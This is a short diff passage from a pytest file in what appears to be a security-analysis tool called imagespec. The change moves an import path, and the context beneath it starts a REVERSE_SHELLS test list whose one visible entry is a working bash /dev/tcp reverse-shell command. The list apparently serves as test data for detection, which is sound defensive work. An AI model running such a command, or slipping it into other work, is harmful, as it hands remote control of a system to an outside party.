@@ -7,7 +7,7 @@ import time
 
 import pytest
 
-from imagespec.analyzers.indicators_lines import find_lines, has_markers
+from imagespec.analyzers.indicators.lines import find_lines, has_markers
 
 REVERSE_SHELLS = [
     "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
